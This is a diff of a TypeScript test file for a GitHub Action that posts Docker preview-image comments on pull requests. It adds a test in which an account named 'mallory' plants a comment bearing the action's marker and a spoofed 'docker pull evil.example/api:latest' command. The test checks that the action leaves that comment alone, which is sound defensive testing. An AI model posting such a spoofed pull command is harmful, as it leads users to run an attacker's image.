@@ -109,9 +109,10 @@ describe('a pull request opened, then synchronized', () => {
     expect(comments[0]!.body).toContain(`docker pull ${image}@${digest}`);
     expect(comments[0]!.body).toContain(`https://github.com/${GITHUB_REPO}/commit/${head}`);
     expect(comments[0]!.body).toContain(`/actions/runs/${recorded('pull_request_opened').GITHUB_RUN_ID}`);
-    expect(api.requests.map((r) => `${r.method} ${r.status} ${r.auth}`)).toEqual([
-      'GET 200 token',
-      'POST 201 token',
+    expect(api.requests.map((r) => `${r.method} ${r.path.split('/').pop()} ${r.status} ${r.auth}`)).toEqual([
+      'POST graphql 200 token',
+      'GET comments 200 token',
+      'POST comments 201 token',
     ]);
     expect(opened.annotations.filter((a) => a.level === 'warning')).toEqual([]);
   });
@@ -128,12 +129,66 @@ describe('a pull request opened, then synchronized', () => {
     expect(comments[0]!.id).toBe(first.id);
     expect(comments[0]!.body).toContain(`| Digest | \`${digest}\` |`);
     expect(comments[0]!.updated_at > first.updated_at).toBe(true);
-    expect(api.requests.map((r) => r.method)).toEqual(['GET', 'PATCH']);
+    expect(api.requests.map((r) => r.method)).toEqual(['POST', 'GET', 'PATCH']);
   });
 
   it('never shows the token in the log, outputs, state, summary or command lines', () => {
     expectTokenNowhere(opened);
     expectTokenNowhere(synchronized);
+  });
+});
+
+describe('a marker planted by another user before the first build', () => {
+  const repository = 'project-x/planted-marker';
+  const planted = (image: string) =>
+    `${previewMarker(image)}\n### Preview image pushed\n\n\`\`\`sh\ndocker pull evil.example/api:latest\n\`\`\`\n`;
+  let image: string;
+  let plantedId: number;
+  let opened: ActionRun;
+  let synchronized: ActionRun;
+
+  beforeAll(async () => {
+    image = `${world.registry.host}/${world.namespace}/${repository}`;
+    // Markers are public: anyone who may comment can post one, with a pull command of their own.
+    plantedId = api.seedComments(GITHUB_REPO, PR, [planted(image)], {
+      login: 'mallory',
+      id: 6660001,
+      node_id: 'MDQ6VXNlcjY2NjAwMDE=',
+    })[0]!.id;
+    api.requests.length = 0;
+    opened = await runOn('pull_request_opened', repository, world.apiKeyEnv);
+    synchronized = await runOn('pull_request_synchronize', repository, world.apiKeyEnv);
+  });
+
+  it('both builds succeed without a warning', () => {
+    for (const run of [opened, synchronized]) {
+      expect({ exitCode: run.exitCode, log: run.exitCode === 0 ? '' : run.log }).toEqual({
+        exitCode: 0,
+        log: '',
+      });
+      expect(run.annotations.filter((a) => a.level === 'warning')).toEqual([]);
+    }
+  });
+
+  it("the planted comment is never edited; the action's own comment is created, then updated", async () => {
+    const comments = previewComments(image);
+    expect(comments.map((c) => [c.id === plantedId ? 'planted' : 'ours', c.user.login])).toEqual([
+      ['planted', 'mallory'],
+      ['ours', 'github-actions[bot]'],
+    ]);
+    expect(comments[0]!.body).toBe(planted(image));
+    expect(comments[0]!.updated_at).toBe(comments[0]!.created_at);
+    const digest = await world.registry.manifestDigest(`${world.namespace}/${repository}`, `pr-${PR}`);
+    expect(synchronized.outputs.digest).toBe(digest);
+    expect(comments[1]!.body).toContain(`docker pull ${image}@${digest}`);
+    const writes = api.requests.filter((r) => r.method !== 'GET' && !r.path.endsWith('/graphql'));
+    expect(writes.map((r) => `${r.method} ${r.path} ${r.actor}`)).toEqual([
+      `POST /repos/${GITHUB_REPO}/issues/${PR}/comments github-actions[bot]`,
+      `PATCH /repos/${GITHUB_REPO}/issues/comments/${comments[1]!.id} github-actions[bot]`,
+    ]);
+    expect(opened.log).toContain(
+      'comment(s) by other accounts than github-actions[bot] carry the preview marker',
+    );
   });
 });
 
@@ -164,7 +219,7 @@ describe('a read-only token (pull-requests: read)', () => {
     expect(warnings).toHaveLength(1);
     expect(warnings[0]!.message).toContain('Resource not accessible by integration');
     expect(warnings[0]!.message).toContain('permissions: pull-requests: write');
-    expect(api.requests.map((r) => `${r.method} ${r.status}`)).toEqual(['GET 200', 'POST 403']);
+    expect(api.requests.map((r) => `${r.method} ${r.status}`)).toEqual(['POST 200', 'GET 200', 'POST 403']);
     expect(previewComments(`${world.registry.host}/${world.namespace}/${repository}`)).toEqual([]);
     expectTokenNowhere(run);
   });
